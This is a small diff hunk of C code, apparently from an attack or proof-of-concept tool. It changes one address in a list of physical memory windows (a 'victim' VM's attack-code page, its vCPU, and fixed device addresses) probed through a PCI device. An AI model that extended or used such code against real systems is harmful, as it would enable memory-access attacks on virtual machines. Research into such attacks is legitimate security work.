@@ -52,7 +52,7 @@ static void attempt_window(struct tally *t, struct pci_dev *pci, u64 place, u32 
 static void attempt_windows(void)
 {
 	u64 core = core_address();
-	const u64 place[] = { core, page_to_phys(victim.memory[ATTACK_CODE]), page_to_phys(victim.vcpu[0]), 0x09050000, 0x09020000, 0x08080000,
+	const u64 place[] = { core, page_to_phys(victim.memory[ATTACK_CODE]), page_to_phys(victim.vcpu[0]), 0x09050000, 0x09020000, 0x08090000,
 			      0x0a000000 };
 	struct tally t = { 0 };
 	u32 own;
